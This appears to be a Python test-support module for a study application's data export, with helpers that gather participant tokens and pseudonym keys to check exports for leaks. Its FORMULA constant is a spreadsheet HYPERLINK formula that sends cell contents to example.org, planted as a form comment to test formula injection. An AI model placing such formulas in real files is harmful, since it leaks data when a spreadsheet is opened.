"""Participants of the exported studies, and data that would identify them."""

from pathlib import Path
from typing import Any

from sqlalchemy import select

from studyapp.database.tables.study_session import StudySession
from studyapp.database.tables.trial import Trial, Video
from studyapp.study.folder import StudyFolder
from tests.support.studies.stored import reading

FORMULA = '=HYPERLINK("http://example.org/?" & A1, "me")'

FORM = """
[[form.consent]]
name = "comment"
text = "Who are | you?"
kind = "text"
required = false

[[form.consent]]
name = "hearing"
text = "Do you hear well?"
choices = ["yes", "no"]
required = false
"""

SAID: dict[str, Any] = {
    "recruiter_participant": "5f3c1d9e7a2b4c6d8e0f1a2b",
    "recruiter_study": "recruiters-study",
    "recruiter_session": "recruiters-session",
    "form": {"comment": FORMULA, "hearing": "yes"},
}
"""The third participant, who was sent by name."""

NAMES = tuple(value for value in SAID.values() if isinstance(value, str))


def secrets_of(folder: StudyFolder) -> set[str]:
    """Return everything with which a reader of a table could identify or impersonate a
    participant."""
    one = StudySession
    columns = (one.token, one.visit, one.completion_code, Trial.token, Video.token)
    with reading(folder.responses) as session:
        found = {name for column in columns for name in session.scalars(select(column))}
    key = folder.pseudonym_key
    return {name for name in found if name} | ({key.read_text().strip()} if key.exists() else set())


def text_of(files: list[Path]) -> str:
    """Return the text of all text files."""
    return "\n".join(path.read_bytes().decode("utf-8", "replace") for path in files)
